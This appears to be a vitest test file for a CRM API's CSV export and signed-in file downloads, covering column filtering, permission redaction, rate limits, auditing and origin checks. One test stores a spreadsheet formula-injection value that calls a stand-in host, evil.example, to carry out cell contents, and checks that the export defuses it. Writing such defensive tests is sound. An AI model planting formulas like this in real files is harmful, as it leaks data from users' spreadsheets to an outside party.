import { once } from 'node:events';
import { request } from 'node:http';
import { beforeAll, describe, expect, it } from 'vitest';
import { startApi } from '../fixtures/api.ts';
import { Browser } from '../fixtures/browser.ts';
import { bulkLoad } from '../fixtures/bulk-load.ts';
import { customerFields, makeTenant, makeUser, type Tenant } from '../fixtures/tenants.ts';

const api = await startApi();
let tenant: Tenant;

beforeAll(async () => {
  tenant = await makeTenant(api);
});

const linesOf = (content: unknown) => String(content).split('\r\n').slice(0, -1);
const take = async (path: string, parameters = {}, as = tenant.me) => {
  const { status, result, error, headers } = await api.call(`${path}/export`, parameters, as);
  expect({ status, error }).toEqual({ status: 200, error: null });
  return { lines: linesOf(result), headers };
};

const copyCustomer = (times: number, name: string) =>
  bulkLoad(api.db.pool, ['crm.customer'], (client) =>
    client.query(
      `INSERT INTO crm.customer (isp_id, reseller_id, type, name, mobile, email, zipcode, state, city, street)
       SELECT isp_id, reseller_id, type, $2, mobile, email, zipcode, state, city, street
       FROM (SELECT * FROM crm.customer WHERE isp_id = $1 LIMIT 1) c, generate_series(1, $3)`,
      [tenant.ispid, name, times],
    ),
  );

describe('an export', () => {
  it('has the columns of the list, and its values as documented texts', async () => {
    const { lines, headers } = await take('customer');
    const [row] = await api.ok<Record<string, unknown>[]>('customer/list', {}, tenant.me);
    expect(lines[0]).toBe(`\uFEFF${Object.keys(row ?? {}).join(',')}`);
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(String(row?.created_at));
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="customer-\d{4}-\d\d-\d\d\.csv"$/);
  });

  it('takes the filters of the list', async () => {
    expect((await take('service', { username: tenant.username })).lines).toHaveLength(2);
    expect((await take('service', { username: 'nobody' })).lines).toHaveLength(1);
    expect(await api.call('service/export', { rows_offset: 3 }, tenant.me)).toMatchObject({ status: 200 });
  });

  it('has every row once, however many pages of the database it takes', async () => {
    await copyCustomer(2_500, 'Copy');
    const { lines } = await take('customer');
    const ids = lines.slice(1).map((line) => Number(line.split(',')[0]));
    expect(ids).toHaveLength(2501);
    expect(ids).toEqual([...new Set(ids)].sort((a, b) => a - b));
  });

  it('has the columns that are asked for, in that order', async () => {
    const { lines } = await take('subscriber', { columns: 'status,username', username: tenant.username });
    expect(lines).toEqual(['\uFEFFstatus,username', expect.stringMatching(new RegExp(`,${tenant.username}$`))]);
    expect(await api.call('subscriber/export', { columns: 'password_enc' }, tenant.me)).toMatchObject({ status: 400 });
  });

  it('shows nothing that its caller could not read in the list', async () => {
    const { ispid, me, username } = tenant;
    const network = await makeUser(api, me, { ispid, roles: 'Network' });
    const columns = { columns: 'username,customername,mobile' };
    expect((await take('subscriber', { ...columns, username })).lines[1]).toBe(`${username},Ravi,9800000001`);
    expect((await take('subscriber', { ...columns, username }, network)).lines[1]).toBe(`${username},,`);
    expect(await api.call('subscriber/export', { mobile: '9800000001' }, network)).toMatchObject({ status: 403 });
  });

  it('shows a text that a spreadsheet would execute with an apostrophe', async () => {
    const name = '=HYPERLINK("http://evil.example?x="&A1)';
    await api.ok('customer/create', { ...customerFields, resellerid: tenant.resellerid, name }, tenant.me);
    const { lines } = await take('customer', { name: '=HYPER%' });
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example?x=""&A1)"`);
  });

  it('is in the audit', async () => {
    await take('payment');
    const [event] = await api.ok<{ procedure: string }[]>('audit/list', { procedure: 'payment.export' }, tenant.me);
    expect(event).toMatchObject({ procedure: 'payment.export', via: 'key' });
  });

  it('is one of two that a login user can take at a time, and ends when its reader goes', async () => {
    const slow = await Promise.all([1, 2].map(() => openExport()));
    expect(await api.call('customer/export', {}, tenant.me)).toMatchObject({ status: 429 });
    for (const each of slow) each.destroy();
    await expect.poll(async () => (await api.call('customer/export', {}, tenant.me)).status).toBe(200);
  });

  /** The answer of an export, not read. Long enough to fill the buffers between. */
  async function openExport() {
    await copyCustomer(20_000, 'x'.repeat(150));
    const { userid, api_key } = tenant.me;
    const sent = request(`${api.url}/api/customer/export`, {
      method: 'POST',
      headers: { 'x-userid': String(userid), 'x-api-key': api_key },
    });
    sent.end();
    const [response] = await once(sent, 'response');
    response.pause();
    sent.on('error', () => undefined);
    return sent;
  }
});

describe('a file for a person who is signed in', () => {
  const file = (path: string, headers: Record<string, string>) =>
    fetch(`${api.url}/console/file/${path}`, { method: 'POST', headers });
  const signedIn = async () => {
    const { userid } = await makeUser(api, tenant.me, { ispid: tenant.ispid, roles: 'Support' });
    const { username } = await api.db.prisma.loginUser.findUniqueOrThrow({ where: { id: userid } });
    const browser = new Browser(api.url);
    await browser.ok('login.start', { username, password: 'correct horse' });
    return { cookie: browser.cookie, 'x-lastmile': 'console', origin: api.url };
  };

  it('comes with the session, within its permissions', async () => {
    const headers = await signedIn();
    const taken = await file('service/export', headers);
    expect([taken.status, linesOf(await taken.text())[1]]).toEqual([200, expect.stringContaining(tenant.username)]);
    expect((await file('backup/db', headers)).status).toBe(403);
    expect((await file('invoice/export', { ...headers, 'x-lastmile': '' })).status).toBe(401);
    expect((await file('invoice/export', { ...headers, origin: 'https://evil.example' })).status).toBe(401);
  });

  it('is the only thing there', async () => {
    expect((await file('customer/list', await signedIn())).status).toBe(404);
  });
});
